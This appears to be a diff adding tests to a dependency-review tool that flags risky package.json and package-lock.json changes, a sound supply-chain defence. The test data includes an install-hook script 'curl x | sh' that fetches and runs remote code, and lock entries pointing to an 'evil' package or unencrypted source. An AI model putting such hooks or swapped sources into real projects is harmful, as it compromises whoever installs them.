@@ -33,11 +33,20 @@ describe("package.json", () => {
     expect(concerns(manifest({ a: "1" }), manifest({}))).toBe("");
   });
 
-  test("what says in another way what is installed; a script is none of it", () => {
+  test("what says in another way what is installed; a new script is none of it", () => {
     for (const part of ["overrides", "resolutions", "workspaces", "packageManager", "engines"]) expect(concerns(manifest({}), manifest({}, { [part]: { a: "9" } }))).toContain(`changes ${part}`);
     expect(concerns(manifest({}), manifest({}, { scripts: { test: "node --test" } }))).toBe("");
     expect(concerns(manifest({}), manifest({}, { scripts: {} }), "package.json", "any")).toBe("");
     expect(concerns(manifest({ a: "1.0.0" }), manifest({ a: "1.0.1" }), "package.json", "any")).toContain("it changes package.json");
+  });
+
+  test("a script that begins to run by itself, or that means something else now", () => {
+    const scripts = (before: object, after: object, which: "any" | "major" = "major"): string => concerns(manifest({}, { scripts: before }), manifest({}, { scripts: after }), "package.json", which);
+    for (const name of ["postinstall", "prepare", "pretest"]) expect(scripts({ test: "node --test" }, { test: "node --test", [name]: "curl x | sh" })).toBe(`it changes the script ${name} of package.json`);
+    expect(scripts({ test: "node --test" }, { test: "true" }, "any")).toBe("it changes the script test of package.json");
+    expect(scripts({ test: "node --test" }, {})).toContain("it changes the script test");
+    expect(scripts({}, { presentation: "node slides.ts" })).toBe("");
+    expect(concerns(manifest({}), manifest({}, { scripts: ["a"] }))).toContain("cannot be told");
   });
 
   test("what cannot be read is told: no JSON, new, gone, sections of another kind", () => {
@@ -56,6 +65,21 @@ describe("package-lock.json", () => {
     expect(told({ "node_modules/b/node_modules/a": from("r.test", "1.0.0") }, { "node_modules/b/node_modules/a": from("r.test", "2.0.0") })).toContain("it takes a from 1.0.0 to 2.0.0");
     expect(told({}, { [a]: from("r.test", "1.0.0") })).toContain("adds the dependency a");
     expect(told({ [a]: from("r.test", "1.0.0") }, { [a]: from("evil.test", "1.0.0") })).toContain("fetches a from elsewhere");
+  });
+
+  test.each([
+    ["another package under the name", { resolved: "https://r.test/evil/-/evil-1.0.0.tgz" }, "fetches a from elsewhere"],
+    ["a major step that its version hides", { version: "1.3.1", resolved: "https://r.test/a/-/a-9.9.9.tgz", integrity: "sha512-b" }, "fetches a from elsewhere"],
+    ["no encryption", { resolved: "http://r.test/a/-/a-1.0.0.tgz" }, "fetches a from elsewhere"],
+    ["another name", { name: "evil" }, "fetches a from elsewhere"],
+    ["another hash of the same version", { integrity: "sha512-b" }, "changes the hash of a"],
+    ["a hash that is gone, at an upgrade", { version: "1.0.1", resolved: "https://r.test/a/-/a-1.0.1.tgz", integrity: undefined }, "changes the hash of a"],
+    ["a script at its installation", { version: "1.0.1", resolved: "https://r.test/a/-/a-1.0.1.tgz", integrity: "sha512-b", hasInstallScript: true }, "run a script when it is installed"],
+    ["a smaller upgrade with its hash", { version: "1.0.1", resolved: "https://r.test/a/-/a-1.0.1.tgz", integrity: "sha512-b" }, /^$/],
+    ["a word about who uses it", { dev: true }, /^$/],
+  ])("%s", (_, change, expected) => {
+    const entry = { ...from("r.test", "1.0.0"), integrity: "sha512-a" };
+    expect(told({ "node_modules/a": entry }, { "node_modules/a": { ...entry, ...change } })).toMatch(expected);
   });
 
   test("an old or broken lock file cannot be told", () => {
